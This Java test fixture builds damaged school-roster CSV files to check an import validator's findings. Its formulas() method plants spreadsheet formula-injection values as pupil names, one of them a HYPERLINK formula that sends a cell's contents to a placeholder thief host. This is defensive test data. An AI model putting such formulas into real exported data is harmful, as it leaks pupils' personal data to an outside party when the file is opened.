package io.entsdk.sample;

import io.entsdk.sample.DamagedOnde.Tally;
import io.entsdk.sample.Finding.Reason;
import io.entsdk.sample.OndeLayout.Trait;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Stream;

/**
 * Extractions as schools really send them, one factory for each kind of damage.
 *
 * <p>Damage is added to an intact school, on lines of its own, so that one bad line has one
 * finding. {@link #emptyFile} and {@link #wrongHeader} spoil a whole file: only their first finding
 * is told, and nothing is expected of the rows that depend on it.
 */
public final class HostileOnde {

  private HostileOnde() {}

  /** Return every kind, the long line being of 8 MB. */
  public static List<DamagedOnde> all(SampleSchool school) {
    return Stream.concat(harmless(school).stream(), harmful(school)).toList();
  }

  /** Return the unusual but sound: nothing to find, everything goes through. */
  public static List<DamagedOnde> harmless(SampleSchool school) {
    return List.of(
        sound("UTF-8 with a byte order mark", school, OndeLayout.utf8WithBom()),
        sound("UTF-8", school, OndeLayout.utf8()),
        sound("unquoted", school, OndeLayout.quoted().without(Trait.QUOTED)),
        sound("LF", school, OndeLayout.quoted().without(Trait.CRLF)),
        sound("ragged rows", school, OndeLayout.bare().without(Trait.PADDED)),
        sound("padded rows", school, OndeLayout.quoted().with(Trait.PADDED)),
        sound("header with a leading space", school, OndeLayout.utf8().with(Trait.SPACED_CYCLE)),
        sound("header without it", school, OndeLayout.quoted().without(Trait.SPACED_CYCLE)),
        sound("no work extension", school, OndeLayout.quoted().without(Trait.EXTENSION_COLUMN)));
  }

  private static Stream<DamagedOnde> harmful(SampleSchool school) {
    return Stream.of(
        repeatedHeader(school),
        homonymsInOneClass(school),
        unknownChild(school),
        twoClasses(school),
        emptyFile(school, OndeFile.TEACHERS),
        emptyFile(school, OndeFile.PUPILS),
        wrongHeader(school, OndeFile.TEACHERS),
        wrongHeader(school, OndeFile.PUPILS),
        giantLine(school, 8),
        formulas(school),
        cutOffInQuotes(school),
        impossibleDates(school),
        missingNames(school),
        missingClass(school),
        controlCharacters(school),
        invalidUtf8(school));
  }

  private static DamagedOnde sound(String name, SampleSchool school, OndeLayout layout) {
    return new Damage(name, school, layout).done();
  }

  private static Damage damage(String name, SampleSchool school) {
    return new Damage(name, school, OndeLayout.quoted());
  }

  /** Have the header come again among pupils and among guardians. */
  public static DamagedOnde repeatedHeader(SampleSchool school) {
    Damage damage = damage("repeated header", school);
    for (OndeFile file : List.of(OndeFile.PUPILS, OndeFile.GUARDIANS)) {
      damage.bad(file, null, Reason.REPEATED_HEADER, damage.header(file));
    }
    return damage.done();
  }

  /** Have two more pupils of one name in one class, and a guardian of either. */
  public static DamagedOnde homonymsInOneClass(SampleSchool school) {
    Damage damage = damage("homonyms in one class", school);
    List<String> guardian = damage.guardianOf("TÉMOIN", "Ninon");
    return damage
        .good(OndeFile.PUPILS, damage.stranger(OndeRows.BIRTH_DATE, "2021-03-01"))
        .good(OndeFile.PUPILS, damage.stranger(OndeRows.BIRTH_DATE, "2021-09-30"))
        .bad(
            OndeFile.GUARDIANS,
            OndeRows.CHILD_FAMILY_NAME,
            Reason.AMBIGUOUS_CHILD,
            OndeLine.of(guardian, OndeLayout.quoted()))
        .intact(Tally.of(school).withMorePupils(2))
        .done();
  }

  /** Have a guardian whose child is no pupil. */
  public static DamagedOnde unknownChild(SampleSchool school) {
    Damage damage = damage("unknown child", school);
    OndeLine line = OndeLine.of(damage.guardianOf("PERSONNE", "Lou"), OndeLayout.quoted());
    return damage
        .bad(OndeFile.GUARDIANS, OndeRows.CHILD_FAMILY_NAME, Reason.UNKNOWN_CHILD, line)
        .done();
  }

  /** Have the first pupil again further down, in another class. */
  public static DamagedOnde twoClasses(SampleSchool school) {
    Damage damage = damage("two classes for one child", school);
    List<String> again = damage.firstPupil(OndeRows.CLASS, "Autre classe");
    OndeLine line = OndeLine.of(again, OndeLayout.quoted());
    return damage.bad(OndeFile.PUPILS, OndeRows.CLASS, Reason.TWO_CLASSES, line).done();
  }

  /** Have a file without a byte. */
  public static DamagedOnde emptyFile(SampleSchool school, OndeFile file) {
    return damage("empty file of " + file, school)
        .whole(file, Reason.EMPTY_FILE, List.of())
        .intact(Tally.of(school).without(file))
        .done();
  }

  /** Have the rows under the header of some other table. */
  public static DamagedOnde wrongHeader(SampleSchool school, OndeFile file) {
    Damage damage = damage("wrong header of " + file, school);
    OndeLine header = OndeLine.of(List.of("Code", "Libellé", "Montant"), OndeLayout.quoted());
    List<OndeLine> lines = Stream.concat(Stream.of(header), damage.rows(file).stream()).toList();
    return damage
        .whole(file, Reason.WRONG_HEADER, lines)
        .intact(Tally.of(school).without(file))
        .done();
  }

  /** Have one line of so many million bytes among the pupils; it is never in memory. */
  public static DamagedOnde giantLine(SampleSchool school, int megabytes) {
    Damage damage = damage("line of " + megabytes + " MB", school);
    List<String> row = damage.stranger(OndeRows.FAMILY_NAME, "");
    OndeLine line = OndeLine.giant(megabytes, row.subList(1, row.size()), OndeLayout.quoted());
    return damage.bad(OndeFile.PUPILS, null, Reason.LINE_TOO_LONG, line).done();
  }

  /** Have family names that a spreadsheet would run. */
  public static DamagedOnde formulas(SampleSchool school) {
    Damage damage = damage("formulas", school);
    Stream.of(
            "=HYPERLINK(\"https://voleur.example/?q=\"&A2;\"Cliquez\")", "+33+1", "-2+3", "@SUM(1)")
        .forEach(text -> damage.badPupil(OndeRows.FAMILY_NAME, text, Reason.FORMULA));
    return damage.done();
  }

  /** Have the file of pupils end inside a quoted cell. */
  public static DamagedOnde cutOffInQuotes(SampleSchool school) {
    return damage("cut off in quotes", school).cutOff(OndeFile.PUPILS).done();
  }

  /** Have birth dates that are none. */
  public static DamagedOnde impossibleDates(SampleSchool school) {
    Damage damage = damage("impossible dates", school);
    Stream.of("2020-02-30", "2020-13-01", "0000-00-00", "31/02/2020", "hier", "2999-01-01")
        .forEach(text -> damage.badPupil(OndeRows.BIRTH_DATE, text, Reason.IMPOSSIBLE_DATE));
    return damage.done();
  }

  /** Have a pupil without family name and one without given name. */
  public static DamagedOnde missingNames(SampleSchool school) {
    return damage("missing names", school)
        .badPupil(OndeRows.FAMILY_NAME, "", Reason.MISSING_NAME)
        .badPupil(OndeRows.GIVEN_NAME, "   ", Reason.MISSING_NAME)
        .done();
  }

  /** Have a pupil without class. */
  public static DamagedOnde missingClass(SampleSchool school) {
    return damage("missing class", school)
        .badPupil(OndeRows.CLASS, "", Reason.MISSING_CLASS)
        .done();
  }

  /** Have NUL, bell, escape and backspace in family names. */
  public static DamagedOnde controlCharacters(SampleSchool school) {
    Damage damage = damage("control characters", school);
    Stream.of("\0", "\u0007", "\u001B", "\b")
        .map(control -> "TÉM" + control + "OIN")
        .forEach(text -> damage.badPupil(OndeRows.FAMILY_NAME, text, Reason.CONTROL_CHARACTER));
    return damage.done();
  }

  /** Have rows in ISO-8859-1 in a file whose byte order mark says UTF-8. */
  public static DamagedOnde invalidUtf8(SampleSchool school) {
    OndeLayout latin = new OndeLayout(StandardCharsets.ISO_8859_1, OndeLayout.quoted().traits());
    return new Damage("invalid UTF-8", school, OndeLayout.utf8WithBom())
        .badPupil(OndeRows.FAMILY_NAME, "TÉMOIN", Reason.INVALID_ENCODING, latin)
        .badPupil(OndeRows.FAMILY_NAME, "ÿþTEMOIN", Reason.INVALID_ENCODING, latin)
        .done();
  }
}
